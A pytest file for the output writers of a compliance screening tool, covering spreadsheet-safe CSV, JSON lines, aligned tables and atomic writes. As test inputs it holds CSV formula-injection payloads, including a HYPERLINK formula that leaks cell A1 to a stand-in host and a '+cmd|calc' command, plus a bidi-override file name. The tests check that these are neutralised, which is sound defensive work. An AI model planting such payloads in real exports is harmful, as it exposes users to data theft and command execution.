"""Writing: every row back once, in order, with its id; spreadsheet-safe CSV; a readable table."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from compliance.io.batch import parse_workers, screen_rows, screen_stream
from compliance.io.output_file import AtomicOutput, OutputPathError
from compliance.io.parties import read_parties
from compliance.io.results_out import (
    CsvWriter,
    JsonLinesWriter,
    TableWriter,
    display_width,
    neutralise,
    visible,
)
from compliance.screening.screener import Screener
from compliance.watchlists.bundled import bundled_excerpt


@pytest.fixture(scope="module")
def screener() -> Screener:
    return Screener([bundled_excerpt()])


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"click")',
            '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        ),
        ("+cmd|calc", "'+cmd|calc"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.5", "-12.5"),
        ("+49", "+49"),
        ("1e5", "1e5"),
        ("Acme", "Acme"),
        ("", ""),
    ],
)
def test_neutralise_follows_owasp(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def _write_csv(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "in.csv"
    path.write_text(text, encoding="utf-8")
    return path


def test_csv_output_neutralises_party_and_pass_through(tmp_path: Path, screener: Screener) -> None:
    src = _write_csv(
        tmp_path,
        'id,name,note\n1,"=HYPERLINK(""http://x.example/?""&A1,""click"")",+cmd|calc\n'
        "2,Huawei Technologies Co. Ltd,-5\n",
    )
    for raw in (False, True):
        buffer = io.StringIO()
        writer = CsvWriter(buffer, ("id", "name", "note"), raw=raw)
        for row, result in screen_stream(screener, read_parties(src)):
            writer.write(result, row)
        records = list(csv.DictReader(io.StringIO(buffer.getvalue())))
        if raw:
            assert records[0]["name"].startswith("=HYPERLINK")
            assert records[0]["note"] == "+cmd|calc"
        else:
            assert records[0]["name"].startswith("'=HYPERLINK")
            assert records[0]["note"] == "'+cmd|calc"
            assert records[1]["note"] == "-5"  # a plain number stays a number
        assert records[1]["status"] == "alert"


def test_error_rows_keep_id_and_columns(tmp_path: Path, screener: Screener) -> None:
    src = _write_csv(tmp_path, "id,name,erp\nA,Acme,1\nB,,2\nC,!!!,3\n")
    out = io.StringIO()
    writer = JsonLinesWriter(out)
    for row, result in screen_stream(screener, read_parties(src)):
        writer.write(result, row)
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [(r["row"], r["id"], r["status"], r["input"]) for r in records] == [
        (2, "A", "clear", {"erp": "1"}),
        (3, "B", "error", {"erp": "2"}),
        (4, "C", "error", {"erp": "3"}),
    ]
    assert records[1]["error"] == "row 3: field 'name': empty"
    # a punctuation-only name names its row and field, not a Python exception
    assert records[2]["error"].startswith("row 4: field 'name': nothing to compare")


def test_nested_json_pass_through_is_written_back_as_json(
    tmp_path: Path, screener: Screener
) -> None:
    src = tmp_path / "in.jsonl"
    src.write_text('{"id": 1, "name": "Acme", "meta": {"nested": 1}, "tags": ["a"]}\n', "utf-8")
    out = io.StringIO()
    writer = JsonLinesWriter(out)
    for row, result in screen_stream(screener, read_parties(src)):
        writer.write(result, row)
    record = json.loads(out.getvalue())
    assert record["input"] == {"meta": {"nested": 1}, "tags": ["a"]}
    buffer = io.StringIO()
    csv_writer = CsvWriter(buffer, ("id", "name", "meta", "tags"))
    for row, result in screen_stream(screener, read_parties(src)):
        csv_writer.write(result, row)
    first = next(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert json.loads(first["meta"]) == {"nested": 1}


def test_table_escapes_bidi_and_aligns_wide_text(tmp_path: Path, screener: Screener) -> None:
    src = _write_csv(
        tmp_path, "id,name\n1,evil\u202eexe.txt\n2,長江存储科技有限责任公司\n3,🚀 Rocket Ltd\n"
    )
    out = io.StringIO()
    writer = TableWriter(out)
    for row, result in screen_stream(screener, read_parties(src)):
        writer.write(result, row)
    lines = out.getvalue().splitlines()
    assert "\u202e" not in out.getvalue() and "evil\\u202eexe.txt" in out.getvalue()
    status_column = lines[0].index("status")
    party_column = lines[0].index("party")
    for line in lines[2:]:
        # the display width before the status and the score columns is the same on every line
        assert display_width(line[: line.index(" ", status_column)]) >= status_column
        assert line[party_column - 2 : party_column] == "  "
    wide = next(line for line in lines if "長江" in line)
    score = lines[0].index("score")
    assert display_width(wide[: wide.index("0.")]) == score
    assert "why (aligned words)" in lines[0]


def test_visible_escapes_controls() -> None:
    assert visible("a\u202eb\x07c\u200bd") == "a\\u202eb\\x07c\\u200bd"
    assert visible("Société 長江") == "Société 長江"


def test_atomic_output(tmp_path: Path) -> None:
    with pytest.raises(OutputPathError, match="does not exist"):
        AtomicOutput(tmp_path / "missing" / "out.csv")
    with pytest.raises(OutputPathError, match="is a folder"):
        AtomicOutput(tmp_path)
    target = tmp_path / "out.csv"
    target.write_text("old", encoding="utf-8")
    output = AtomicOutput(target)
    output.stream.write("half")
    output.abort()
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
    output = AtomicOutput(target)
    output.stream.write("new")
    assert target.read_text(encoding="utf-8") == "old"  # nothing under the final name yet
    output.commit()
    assert target.read_text(encoding="utf-8") == "new"


@pytest.mark.parametrize("value", ["0", "-3", "x", "1.5"])
def test_bad_workers_are_refused(value: str) -> None:
    with pytest.raises(ValueError, match="--workers"):
        parse_workers(value)


def test_workers_auto_and_numbers() -> None:
    assert parse_workers("auto") is None
    assert parse_workers("2") == 2


def test_forked_workers_give_identical_output_in_order(tmp_path: Path, screener: Screener) -> None:
    names = ["Huawei Technologies", "Acme", "", "SMIC", "Nordic AB", "!!!", "HiSilicon"]
    lines = [f"{i},{names[i % len(names)]}" for i in range(5000)]
    src = _write_csv(tmp_path, "id,name\n" + "\n".join(lines) + "\n")
    one = screen_rows(screener, read_parties(src), workers=1)
    two = [r for _, r in screen_stream(screener, read_parties(src), workers=2, block_size=512)]
    assert [r.model_dump() for r in one] == [r.model_dump() for r in two]
    assert [r.row for r in two] == list(range(2, 5002))


_NAMES = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        ["", " ", "!!!", "長江存储", "Huawei Technologies", "=1+1", "\u202e", "a\x85b\u2028"]
    ),
    st.text(alphabet="ab ", min_size=1001, max_size=1200),
)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(_NAMES, max_size=25))
def test_output_rows_equal_input_rows(
    tmp_path_factory: pytest.TempPathFactory, screener: Screener, names: list[str]
) -> None:
    """Whatever the names (any script, empty, symbols, huge), one record per input record,
    in input order, each with its id."""
    folder = tmp_path_factory.mktemp("prop")
    src = folder / "in.jsonl"
    with src.open("w", encoding="utf-8") as handle:
        for i, name in enumerate(names):
            handle.write(json.dumps({"id": f"id-{i}", "name": name}) + "\n")
    out = io.StringIO()
    writer = JsonLinesWriter(out)
    for row, result in screen_stream(screener, read_parties(src), block_size=7):
        writer.write(result, row)
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["id"] for r in records] == [f"id-{i}" for i in range(len(names))]
    assert [r["row"] for r in records] == list(range(1, len(names) + 1))


def test_table_names_the_decision_applied_to_a_hit(screener: Screener) -> None:
    from compliance.io.parties import PartyRow
    from compliance.screening.results import HitReview, Party

    result = screener.screen(Party(name="Huawei Technologies Co., Ltd."))
    assert result.hits
    decided = result.hits[0].model_copy(
        update={"review": HitReview(state="suppressed", decision_id=7, verdict="false_positive")}
    )
    shown = result.model_copy(update={"hits": (decided, *result.hits[1:])})
    out = io.StringIO()
    writer = TableWriter(out)
    writer.write(shown, PartyRow(row=2, party=shown.party, name=shown.name))
    writer.write(result, PartyRow(row=3, party=result.party, name=result.name))
    lines = out.getvalue().splitlines()
    assert "[suppressed by decision #7]" in lines[2]
    assert not any("suppressed" in line for line in lines[3:] if line.startswith("3 "))
